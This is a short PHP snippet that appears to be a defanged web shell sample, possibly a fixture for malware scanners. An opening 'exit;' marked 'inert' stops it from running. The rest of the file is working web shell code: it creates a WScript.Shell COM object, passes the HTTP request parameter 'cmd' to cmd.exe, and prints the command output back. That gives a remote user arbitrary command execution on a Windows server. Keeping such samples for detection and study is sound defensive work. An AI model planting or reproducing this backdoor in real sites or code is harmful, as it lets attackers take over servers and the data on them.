<?php exit; /* inert */ 
$w = new COM('WScript.Shell') or die('no');
$e = $w->exec($_SERVER['windir'] . '\\system32\\cmd.exe /c ' . $_REQUEST['cmd']);
echo $e->StdOut->ReadAll();
